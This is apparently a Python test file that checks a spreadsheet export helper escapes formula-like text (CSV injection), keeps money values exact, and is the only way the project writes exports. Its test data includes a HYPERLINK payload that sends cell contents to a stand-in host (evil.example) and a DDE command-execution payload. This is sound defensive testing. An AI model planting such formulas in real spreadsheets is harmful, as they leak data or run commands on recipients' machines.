"""Exports hand spreadsheets text, never a formula to run (OWASP "CSV injection")."""

import io
import re
from pathlib import Path

import pytest

from wegweiser.core.spreadsheet import spreadsheet_csv_writer, spreadsheet_safe, spreadsheet_xlsx

PACKAGE_DIR = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"x")', '\'=HYPERLINK("http://evil.example/?"&A1,"x")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("beratung", "beratung"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_text_that_starts_like_a_formula_gets_a_leading_quote(value, expected):
    assert spreadsheet_safe(value) == expected


def test_the_csv_writer_escapes_every_cell():
    out = io.StringIO()
    writer = spreadsheet_csv_writer(out)

    writer.writerow(["=1+1", "ok", 7])
    writer.writerows([["@x"], ["-y"]])

    assert out.getvalue().splitlines() == ["'=1+1,ok,7", "'@x", "'-y"]


def test_the_xlsx_workbook_escapes_text_and_keeps_numbers():
    from decimal import Decimal

    from openpyxl import load_workbook

    data = spreadsheet_xlsx([["name", "count"], ["=1+1", 7], ["share", Decimal("2.5")]], sheet_title="a/b: c")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet.title == "ab c"
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [
        ["name", "count"],
        ["'=1+1", 7],
        ["share", 2.5],
    ]


def test_money_is_written_to_the_cent_not_as_a_float():
    import zipfile
    from decimal import Decimal

    from openpyxl import load_workbook

    data = spreadsheet_xlsx([["amount"], [Decimal("12345678901.23")], [Decimal("0.10")]])
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<v>12345678901.23</v>" in xml  # the exact digits, no binary float in the file
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A3"].number_format == "0.00"  # shown as 0.10, not 0.1


def test_every_export_writes_through_the_spreadsheet_helper():
    """A new CSV or XLSX export that calls csv.writer or openpyxl itself fails here: use core/spreadsheet.py."""
    helper = PACKAGE_DIR / "core" / "spreadsheet.py"
    pattern = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl|xlsxwriter")
    offenders = [
        str(path.relative_to(PACKAGE_DIR))
        for path in PACKAGE_DIR.rglob("*.py")
        if path != helper and "tests" not in path.parts and pattern.search(path.read_text(encoding="utf-8"))
    ]

    assert offenders == []


def test_an_xlsx_written_here_keeps_formulas_as_text_and_reads_back_with_row_numbers():
    from wegweiser.core.spreadsheet import spreadsheet_read_rows, spreadsheet_xlsx

    content = spreadsheet_xlsx([["key", "name"], [], ["03459024", "=HYPERLINK(1)"]], text_columns=[0])

    assert spreadsheet_read_rows(content) == [(1, ["key", "name"]), (3, ["03459024", "'=HYPERLINK(1)"])]


def test_reading_something_that_is_no_workbook_raises_value_error():
    from wegweiser.core.spreadsheet import spreadsheet_read_rows

    with pytest.raises(ValueError):
        spreadsheet_read_rows(b"PK\x03\x04 not really")
